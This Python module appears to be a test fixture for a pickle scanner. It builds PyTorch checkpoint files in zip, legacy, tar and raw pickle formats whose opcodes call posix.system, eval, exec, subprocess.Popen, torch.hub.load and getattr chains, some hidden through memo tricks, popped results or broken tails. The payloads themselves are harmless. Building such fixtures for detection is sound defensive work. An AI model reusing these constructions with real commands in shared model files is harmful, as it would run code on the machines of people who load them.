"""Pickles that would run something if they were loaded, assembled from opcodes and never loaded.

What they would do is harmless (print a line, open a page that does not exist), and what they look like is what
real attacks look like: a call beside honest weights, hidden behind a memo, popped off the stack again, in front
of a broken tail, or in the containers before the zip.
"""

from __future__ import annotations

import io
import pickletools
import struct
import tarfile

from archive import pack

__all__ = ["HOSTILE", "globals_of"]

SHELL = "echo you have been pwned"
PYTHON = "print('you have been pwned')"
PAGE = "https://example.invalid/pwned"


def named(module: str, name: str) -> bytes:
    """GLOBAL: push what `from module import name` would give."""
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short_text(value: str) -> bytes:
    """SHORT_BINUNICODE, protocol 4."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module: str, name: str, *args: bytes) -> bytes:
    """GLOBAL, arguments, TUPLE, REDUCE."""
    return named(module, name) + b"(" + b"".join(args) + b"tR"


WEIGHT = (
    named("torch._utils", "_rebuild_tensor_v2")
    + b"(("
    + text("storage")
    + named("torch", "FloatStorage")
    + text("0")
    + text("cpu")
    + b"K\x04tQK\x00K\x02K\x02\x86K\x02K\x01\x86\x89"
    + named("collections", "OrderedDict")
    + b")RtR"
)
"""An honest 2 x 2 tensor over the record data/0."""


def state(payload: bytes, *, protocol: int = 2) -> bytes:
    """A state dict with an honest weight and one more entry."""
    return (
        b"\x80"
        + bytes([protocol])
        + b"}("
        + text("weight")
        + WEIGHT
        + text("extra")
        + payload
        + b"u."
    )


def archive(stream: bytes) -> bytes:
    """A torch zip around a pickle, with one storage."""
    return pack(
        "archive",
        [
            ("data.pkl", stream),
            (".format_version", b"1"),
            (".storage_alignment", b"64"),
            ("byteorder", b"little"),
            ("data/0", struct.pack("<4f", 1, 2, 3, 4)),
            ("version", b"3\n"),
        ],
    )


def legacy(stream: bytes) -> bytes:
    """A legacy stream around a pickle, without storages."""
    magic = bytes.fromhex("80028a0a6cfc9c46f9206aa850192e") + b"\x80\x02M\xe9\x03."
    system = (
        b"\x80\x02}("
        + text("protocol_version")
        + b"M\xe9\x03"
        + text("little_endian")
        + b"\x88"
        + text("type_sizes")
        + b"}("
        + text("short")
        + b"K\x02"
        + text("int")
        + b"K\x04"
        + text("long")
        + b"K\x04uu."
    )
    return magic + system + stream + b"\x80\x02]."


def tar(stream: bytes) -> bytes:
    """A 0.1 tar around a pickle, without storages or tensors."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as target:
        for name, content in (
            ("storages", b"\x80\x02K\x00.\x80\x02]."),
            ("tensors", b"\x80\x02K\x00."),
            ("pickle", stream),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            target.addfile(info, io.BytesIO(content))
    return out.getvalue()


SYSTEM = call("posix", "system", text(SHELL))

HOSTILE: dict[str, tuple[str, bytes, list[str]]] = {
    "os_system.pt": (
        "run a shell command from beside an honest weight",
        archive(state(SYSTEM)),
        ["posix system"],
    ),
    "eval.pt": (
        "evaluate Python text",
        archive(state(call("__builtin__", "eval", text(PYTHON)))),
        ["__builtin__ eval"],
    ),
    "exec_py3.pt": (
        "execute Python text, under the module's Python 3 name",
        archive(state(call("builtins", "exec", text(PYTHON)))),
        ["builtins exec"],
    ),
    "webbrowser.pt": (
        "open a web page",
        archive(state(call("webbrowser", "open", text(PAGE)))),
        ["webbrowser open"],
    ),
    "subprocess.pt": (
        "start a process",
        archive(
            state(
                call(
                    "subprocess", "Popen", b"](" + text("echo") + text("you have been pwned") + b"e"
                )
            )
        ),
        ["subprocess Popen"],
    ),
    "getattr_chain.pt": (
        "reach `system` through getattr on an imported module",
        archive(
            state(
                call(
                    "__builtin__",
                    "getattr",
                    call("importlib", "import_module", text("os")),
                    text("system"),
                )
                + text(SHELL)
                + b"\x85R"
            )
        ),
        ["__builtin__ getattr", "importlib import_module"],
    ),
    "popped.pt": (
        "run a shell command whose result is popped, so that the loaded state looks honest",
        archive(b"\x80\x02" + SYSTEM + b"0" + state(text("nothing"))[2:]),
        ["posix system"],
    ),
    "broken_tail.pt": (
        "run a shell command before the pickle breaks off",
        archive(b"\x80\x02" + SYSTEM + b"\xff"),
        ["posix system"],
    ),
    "stack_global.pt": (
        "run a shell command named by strings from the memo (protocol 4)",
        archive(
            b"\x80\x04"
            + short_text("system")
            + b"\x940"
            + short_text("posix")
            + b"\x940h\x01h\x00\x93"
            + short_text(SHELL)
            + b"\x85R."
        ),
        ["posix system"],
    ),
    "inst.pt": (
        "run a shell command through INST",
        archive(b"\x80\x02(" + text(SHELL) + b"iposix\nsystem\n."),
        ["posix system"],
    ),
    "obj.pt": (
        "run a shell command through OBJ",
        archive(b"\x80\x02(" + named("posix", "system") + text(SHELL) + b"o."),
        ["posix system"],
    ),
    "build.pt": (
        "run Python text through __setstate__ of a module-like object",
        archive(
            state(
                named("torch.nn.modules.module", "Module")
                + b")\x81}("
                + text("_parameters")
                + b"}"
                + text("hook")
                + call("__builtin__", "eval", text(PYTHON))
                + b"ub"
            )
        ),
        ["__builtin__ eval", "torch.nn.modules.module Module"],
    ),
    "torch_hub.pt": (
        "fetch and run code through a function of torch itself",
        archive(state(call("torch.hub", "load", text("nobody/nothing"), text("pwned")))),
        ["torch.hub load"],
    ),
    "legacy_system.pt": (
        "run a shell command from a legacy stream",
        legacy(b"\x80\x02" + SYSTEM + b"."),
        ["posix system"],
    ),
    "tar_system.pt": (
        "run a shell command from a 0.1 tar",
        tar(b"\x80\x02" + SYSTEM + b"."),
        ["posix system"],
    ),
    "raw_pickle.pt": (
        "run a shell command; a bare pickle of protocol 0, no torch container around it",
        b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR.",
        ["posix system"],
    ),
}
"""Name: what it would do, the file, the globals (`module name`) that a scan must report."""


def globals_of(stream: bytes) -> list[str]:
    """Every `module name` that a pickle mentions, by reading its opcodes with the standard library."""
    found: list[str] = []
    memo: dict[int, object] = {}
    recent: list[object] = []
    for opcode, argument, _ in pickletools.genops(stream):
        match opcode.name:
            case "GLOBAL" | "INST":
                found.append(str(argument))
                recent.append(None)
            case "STACK_GLOBAL":
                found.append(f"{recent[-2]} {recent[-1]}")
                recent.append(None)
            case "MEMOIZE":
                memo[len(memo)] = recent[-1] if recent else None
            case "BINPUT" | "LONG_BINPUT" | "PUT":
                memo[int(argument)] = recent[-1] if recent else None
            case "BINGET" | "LONG_BINGET" | "GET":
                recent.append(memo.get(int(argument)))
            case name if "UNICODE" in name:
                recent.append(argument)
            case "PROTO" | "FRAME" | "POP":
                pass
            case _:
                recent.append(None)
    return found
